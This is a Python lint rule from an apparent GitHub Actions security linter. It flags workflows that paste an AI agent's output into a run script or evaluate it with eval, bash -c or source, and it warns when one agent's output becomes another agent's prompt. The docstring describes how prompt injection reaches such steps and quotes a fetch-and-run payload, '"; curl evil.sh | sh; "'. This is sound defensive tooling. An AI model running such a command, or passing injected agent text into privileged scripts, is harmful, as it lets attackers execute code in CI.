"""Agent's output is trusted: a later step runs it or pastes it into a script.

## What it does
Reports a later step that expands an agent step's outputs
(`${{ steps.<agent>.outputs.* }}`, also through a job output read as
`needs.<job>.outputs.*`) inside a `run:` script or `actions/github-script`'s
`script:`, or that evaluates text the agent produced (`eval`, `bash -c`,
`sh -c`, `source`) through an `env:` variable holding those outputs: an
error, on the expression (or the evaluating command). An agent output that
becomes another agent's prompt is a warning.

## Why is this bad?
An agent's answer is text a prompt injection can choose. The runner pastes
`${{ }}` into the script before the shell reads it, so an answer holding
`"; curl evil.sh | sh; "` runs as code in a step that may hold more
privileges than the agent had. Passing it to another agent carries the
injection one hop further.

## Example
```yaml
      - id: review
        uses: openai/codex-action@v1
        with:
          prompt: Review the change
      - run: echo "${{ steps.review.outputs.final-message }}" > review.md
```

## Use instead
Pass the output through an environment variable, quoted, and validate it:
```yaml
      - run: printf '%s\n' "$REVIEW" > review.md
        env:
          REVIEW: ${{ steps.review.outputs.final-message }}
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from sentra_lint.agents.posture import AgentRun, agent_runs
from sentra_lint.findings import Related, Severity, Violation
from sentra_lint.rulebase import RuleContext, RuleMeta
from sentra_lint.workflow.analysis import expression_paths, expressions_in, lower_parts
from sentra_lint.workflow.model import Job, Step, Workflow
from sentra_lint.yamlmodel import ScalarNode

META = RuleMeta(
    id="SA005",
    slug="agent-output-trusted",
    title="Agent's output is expanded into a script or evaluated",
    severity=Severity.ERROR,
    also=(Severity.WARNING,),
    security_severity=7.5,
    area="workflow",
    precision="high",
)

_EVALUATORS = frozenset({"eval", "source", "."})
_SHELLS = frozenset({"bash", "sh", "zsh", "dash"})


def _refs(text: str, producers: dict[str, AgentRun], root: str) -> list[str]:
    """The producer names whose text outputs an expression reads (``steps.<id>`` or ``needs.<job>``).

    For a known action only the outputs the inventory lists as the agent's text count (not
    ``execution_file``, a path the action chooses); every output of a ``run:`` agent step counts.
    For ``needs.<job>``, the producer is already a job output that carries agent text.
    """
    out = []
    for path in expression_paths(text):
        parts = lower_parts(path)
        if len(parts) >= 3 and parts[0] == root and parts[2] == "outputs" and parts[1] in producers:
            action = producers[parts[1]].action
            if root == "steps" and action is not None:
                name = parts[3] if len(parts) >= 4 else "*"
                if name not in {o.lower() for o in action.outputs}:
                    continue
            out.append(parts[1])
    return out


def _script_node(step: Step) -> ScalarNode | None:
    if isinstance(step.run, ScalarNode) and not step.run.is_null:
        return step.run
    ref = step.uses_ref
    if ref is not None and ref.slug == "actions/github-script":
        node = step.input("script")
        if isinstance(node, ScalarNode):
            return node
    return None


def _evaluated_vars(step: Step) -> list[tuple[str, int, int]]:
    """Variables an ``eval``/``bash -c``/``source`` command evaluates: (name, start, end) in the script."""
    script = step.script
    if script is None:
        return []
    out = []
    for cmd in script.commands:
        if not cmd.argv:
            continue
        name = cmd.name
        args = cmd.argv[1:]
        if name in _SHELLS:
            if not any(w.text == "-c" for w in args):
                continue
        elif name not in _EVALUATORS:
            continue
        for w in args:
            for m in re.finditer(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", w.raw):
                out.append((m.group(1), cmd.argv[0].start, cmd.argv[0].end))
    return out


def _check_step(wf: Workflow, step: Step, producers: dict[str, AgentRun], root: str,
                prompt_of: dict[int, AgentRun]) -> Iterator[Violation]:
    src = wf.source
    node = _script_node(step)
    if node is not None and "${{" in node.value:
        vmap = node.value_map(src)
        for es in expressions_in(node.value):
            names = _refs("${{" + es.inner + "}}", producers, root) if es.closed else []
            for name in names:
                producer = producers[name]
                yield Violation(
                    vmap.span(src, es.start, es.end),
                    f"the output of the agent `{producer.name}` ({root}.{name}) is pasted into "
                    f"{'the script' if step.run is not None else 'the github-script code'} before it runs: "
                    "text a prompt injection chooses runs as code; pass it through `env:` and quote it",
                    related=_related(wf, producer),
                )
    if step.env is not None and isinstance(step.run, ScalarNode):
        carried: dict[str, str] = {}
        for var, _key, value in step.env.str_items():
            if isinstance(value, ScalarNode):
                names = _refs(value.value, producers, root)
                if names:
                    carried[var] = names[0]
        if carried:
            vmap = step.run.value_map(src)
            for var, start, end in _evaluated_vars(step):
                if var in carried:
                    producer = producers[carried[var]]
                    yield Violation(
                        vmap.span(src, start, end),
                        f"`${var}` holds the output of the agent `{producer.name}` and is evaluated as code; "
                        "treat the agent's answer as data, never as a script",
                        related=_related(wf, producer),
                    )
    consumer = prompt_of.get(id(step))
    if consumer is not None:
        for pv in consumer.prompts:
            if pv.node is None:
                continue
            pvmap = pv.node.value_map(src)
            for es in expressions_in(pv.raw):
                names = _refs("${{" + es.inner + "}}", producers, root) if es.closed else []
                for name in names:
                    producer = producers[name]
                    if producer.step is step:
                        continue
                    yield Violation(
                        pvmap.span(src, pv.offset + es.start, pv.offset + es.end),
                        f"the output of the agent `{producer.name}` becomes the prompt of `{consumer.name}` "
                        f"({pv.where}): an injection in the first carries into the second",
                        severity=Severity.WARNING,
                        related=_related(wf, producer),
                    )


def _related(wf: Workflow, producer: AgentRun) -> tuple[Related, ...]:
    span = producer.span or producer.step.span
    return (Related(wf.source.path, span, f"the agent `{producer.name}` writes it"),)


def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
    inv = ctx.agents()
    runs = agent_runs(wf, inv)
    if not runs:
        return
    prompt_of = {id(r.step): r for r in runs}
    by_job: dict[int, dict[str, AgentRun]] = {}
    for run in runs:
        if run.step.id:
            by_job.setdefault(id(run.job), {})[run.step.id.lower()] = run
    job_producers: dict[str, AgentRun] = {}
    jobs: list[Job | None] = [*wf.jobs] if not wf.is_action else [None]
    for job in jobs:
        producers = by_job.get(id(job), {})
        steps = job.steps if job is not None else wf.action_steps
        after: dict[str, AgentRun] = {}
        for step in steps:
            yield from _check_step(wf, step, after, "steps", prompt_of)
            if step.id and step.id.lower() in producers:
                after[step.id.lower()] = producers[step.id.lower()]
        if job is not None and job.outputs is not None and producers:
            for _name, _key, value in job.outputs.str_items():
                if isinstance(value, ScalarNode) and _refs(value.value, producers, "steps"):
                    job_producers[job.id.lower()] = producers[_refs(value.value, producers, "steps")[0]]
    if job_producers:
        for job in wf.jobs:
            needed = {n.lower() for n in job.needs}
            visible = {k: v for k, v in job_producers.items() if k in needed}
            if visible:
                for step in job.steps:
                    yield from _check_step(wf, step, visible, "needs", prompt_of)
